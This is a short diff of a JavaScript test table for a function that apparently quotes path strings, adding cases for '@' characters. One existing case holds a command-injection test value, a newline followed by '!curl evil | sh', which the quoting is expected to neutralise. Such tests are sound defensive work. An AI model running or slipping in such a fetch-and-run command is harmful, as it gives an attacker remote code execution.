@@ -137,6 +137,8 @@ it.each([
 it.each([
   ['plain/path-1.x', 'plain/path-1.x'],
   ['my images', '"my images"'],
+  ['@photos', '"@photos"'],
+  ['hf:a/b@main', 'hf:a/b@main'],
   ['a"b\\c', '"a\\"b\\\\c"'],
   ['a\n!curl evil | sh', '"a !curl evil | sh"'],
   ['a\r\n\u2028\u0085b', '"a b"'],
